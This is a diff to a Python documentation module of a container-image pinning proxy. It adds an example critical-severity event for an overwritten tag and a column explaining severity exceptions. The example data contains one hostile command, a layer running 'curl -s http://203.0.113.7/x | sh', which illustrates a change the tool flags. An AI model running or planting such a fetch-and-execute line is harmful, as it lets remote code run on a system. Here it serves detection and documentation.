@@ -16,17 +16,37 @@ from pathlib import Path
 from typing import Any
 
 from proxy.policy.alerts import Alertmanager, Http
+from proxy.policy.changes.model import Change, Kind
+from proxy.policy.changes.record import details_of
 from proxy.sinks import words
 from proxy.sinks.alertmanager import AlertmanagerSink
 from proxy.sinks.cloudevents import envelope
 from storage.digest import Digest
-from storage.records import ACTS, Event, EventType, Message, sink_subject
+from storage.records import ACTS, Event, EventType, Message, Severity, sink_subject
 
 SOURCE = "https://tagstone.example"
 _AT = datetime(2026, 3, 14, 9, 26, 53, 589000, tzinfo=UTC)
 _IMAGE = "docker.io/library/nginx"
 _TAG = f"{_IMAGE}:1.27"
 _MARKED = re.compile(r"(<!-- (\w+) -->\n).*?(<!-- end -->)", re.DOTALL)
+
+
+_OLD, _NEW, _LAYER = (Digest.of(what) for what in (b"pinned", b"moved", b"layer"))
+_CHANGE = Change(
+    _OLD,
+    _NEW,
+    (Kind.LAYERS_ADDED, Kind.ENVIRONMENT),
+    Severity.CRITICAL,
+    ("a layer of 1.2 MiB was added on top: RUN curl -s http://203.0.113.7/x | sh", "environment PATH has /tmp in front"),
+)
+
+
+#: Where an event is graver, or less grave, than its type.
+_OTHERWISE = {
+    EventType.TAG_OVERWRITTEN: "when it was compared, that of what changed",
+    EventType.TAG_CREATED: "warning where something speaks against it",
+    EventType.KEY_EXPIRING: "critical when nothing is left",
+}
 
 
 @dataclass(frozen=True, slots=True)
@@ -36,13 +56,6 @@ class Entry:
     meaning: str
     act: str
     example: Event
-
-
-def _digest(what: str) -> Digest:
-    return Digest.of(what.encode())
-
-
-_OLD, _NEW, _LAYER = _digest("pinned"), _digest("moved"), _digest("layer")
 
 
 def _event(kind: EventType, subject: str, digest: Digest | None, message: str, **details: Any) -> Event:
@@ -65,7 +78,15 @@ def entries() -> Mapping[EventType, Entry]:
             "The upstream names another digest than the pinned one. Pulls get the pinned one or a refusal, as the rule says.",
             "`tagstone pins diff IMAGE` shows what changed; then `tagstone pins approve` or `reject`. The event ends then, or "
             "when the upstream is back.",
-            _event(EventType.TAG_OVERWRITTEN, _TAG, _NEW, moved, pinned=pinned, upstream=upstream),
+            Event(
+                EventType.TAG_OVERWRITTEN,
+                _TAG,
+                _NEW,
+                moved,
+                _AT,
+                severity=_CHANGE.severity,
+                details={"pinned": pinned, "upstream": upstream, **details_of(_CHANGE)},
+            ),
         ),
         EventType.TAG_REVERTED: Entry(
             "An overwritten or deleted tag names the pinned digest again.",
@@ -299,10 +320,11 @@ def overview() -> str:
     """All types as a table."""
     rows = ["| type | severity | what it is | what happened |", "| --- | --- | --- | --- |"]
     for kind, entry in entries().items():
-        severity = entry.example.severity
+        severity = Event(kind, "", None, "", _AT).severity
         assert severity is not None
+        told = severity.value + (f"; {_OTHERWISE[kind]}" if kind in _OTHERWISE else "")
         what = "act" if kind in ACTS else "state"
-        rows.append(f"| [`{kind}`](#{_anchor(kind)}) | {severity.value} | {what} | {entry.meaning} |")
+        rows.append(f"| [`{kind}`](#{_anchor(kind)}) | {told} | {what} | {entry.meaning} |")
     return "\n".join(rows) + "\n"
 
 
